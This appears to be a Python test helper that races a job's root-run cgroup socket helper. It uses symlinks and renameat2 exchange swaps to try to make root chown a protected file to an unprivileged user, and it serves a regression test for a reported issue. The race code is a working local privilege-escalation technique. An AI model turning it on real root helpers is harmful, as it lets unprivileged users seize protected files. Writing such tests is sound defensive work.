"""A hostile job user against the job's cgroup helper (issue 39), as the attacker would
run it. Run as user1 by test_fault_cgroup_socket_race.py.

    python cgroup_socket_racer.py BASE TARGET MARKS

BASE is the job runtime directory, TARGET a root-owned file the user must never get.
For each job directory that appears in BASE (``BASE/JOBID``, the user's), the racer
puts a link to TARGET there (``.x``) and swaps it with renameat2(RENAME_EXCHANGE), in a
loop, with every name the helper binds and hands over (``chown``) as root: the
socket's name in the job's directory, and the socket in the helper's own directory
(``BASE/JOBID.cgroup``, root's), across directories. It also tries to plant the link
at the helper's directory and at its socket. A root that follows the link while it
hands the socket over gives TARGET to the user.

Once a socket of the helper is seen (at any of those names), it races 20 ms more (the
hand-over follows the bind at once), then writes ``MARKS/raced-JOBID`` (the job waits
for it) with what it saw; after 15 s without one it writes it anyway. On SIGTERM it
writes ``MARKS/racer.json`` (every job's) and ends.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import signal
import stat
import sys
import threading
import time

from acbslurm.cgroups.names import HELPER_DIR_SUFFIX, HELPER_SOCKET

AT_FDCWD = -100
RENAME_EXCHANGE = 2
RACE_AFTER = 0.02
GIVE_UP = 15.0

_libc = ctypes.CDLL(None, use_errno=True)
_renameat2 = _libc.renameat2
_renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]


def exchange(a: bytes, b: bytes) -> int:
    """0, or the errno of renameat2(a, b, RENAME_EXCHANGE)."""
    if _renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0:
        return 0
    return ctypes.get_errno()


def is_socket(path: bytes) -> int | None:
    """The owner of the socket at ``path``; None when there is none."""
    try:
        st = os.lstat(path)
    except OSError:
        return None
    return st.st_uid if stat.S_ISSOCK(st.st_mode) else None


def plant(target: str, where: bytes) -> int:
    """1 when a link to ``target`` could be put at ``where``, else 0."""
    try:
        os.symlink(target, where)
    except OSError:
        return 0
    return 1


def race(base: str, job: str, target: str, marks: str, seen: dict[str, object]) -> None:
    mine = os.path.join(base, job).encode()
    helper = os.path.join(base, job + HELPER_DIR_SUFFIX).encode()
    link = mine + b"/.x"
    names = [mine + b"/" + HELPER_SOCKET.encode(), helper + b"/" + HELPER_SOCKET.encode()]
    # The helper's directory and socket, planted before the helper makes them.
    planted = plant(target, helper) + plant(target, names[1])
    plant(target, link)
    swaps, refused, bound = swap_until_bound(mine, link, names)
    if os.path.islink(link):
        os.unlink(link)  # the job's directory as it was (another test's job may be raced)
    got = {
        "bound": bound,
        "planted": planted,
        "swaps": swaps,
        "refused": refused,
        # whose the socket in the helper's directory is once handed over (the user's)
        "socket": handed_over(names[1]),
    }
    seen[job] = got
    with open(os.path.join(marks, f"raced-{job}"), "w") as f:
        json.dump(got, f)


def handed_over(path: bytes) -> int | None:
    """The owner of the socket at ``path`` once it is not root's any more (the helper
    binds as root, then chowns: a busy machine may run the racer in between), within a
    few seconds; root (0) if it stays root's, None if there is none."""
    deadline = time.monotonic() + 5.0
    owner = is_socket(path)
    while owner == 0 and time.monotonic() < deadline:
        time.sleep(0.01)
        owner = is_socket(path)
    return owner


def swap_until_bound(mine: bytes, link: bytes, names: list[bytes]) -> tuple[int, int, bool]:
    """Swap ``link`` with each of ``names`` until a socket of the helper was there for
    RACE_AFTER, the job's directory went, or GIVE_UP passed: (swaps made, swaps
    refused, whether a socket was seen)."""
    start = time.monotonic()
    bound_at = 0.0
    swaps = refused = n = 0
    while True:
        for name in names:
            err = exchange(link, name)
            swaps += err == 0
            refused += err in (errno.EACCES, errno.EPERM)
        n += 1
        if n % 32:
            continue
        now = time.monotonic()
        if not bound_at and any(is_socket(p) is not None for p in (*names, link)):
            bound_at = now
        if (bound_at and now - bound_at > RACE_AFTER) or now - start > GIVE_UP:
            return swaps, refused, bool(bound_at)
        if not os.path.isdir(mine):
            return swaps, refused, bool(bound_at)  # the job ended


def main() -> int:
    base, target, marks = sys.argv[1:4]
    seen: dict[str, object] = {}
    started: set[str] = set()
    stopping = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopping.set())
    deadline = time.monotonic() + 600  # a test's bound
    while not stopping.is_set() and time.monotonic() < deadline:
        try:
            entries = os.listdir(base)
        except OSError:
            entries = []
        for name in entries:
            if name in started or not name.replace("_", "").isdigit():
                continue
            started.add(name)
            args = (base, name, target, marks, seen)
            threading.Thread(target=race, args=args, daemon=True).start()
        stopping.wait(0.002)
    with open(os.path.join(marks, "racer.json"), "w") as f:
        json.dump({"jobs": seen, "started": sorted(started)}, f)
    return 0


if __name__ == "__main__":
    sys.exit(main())
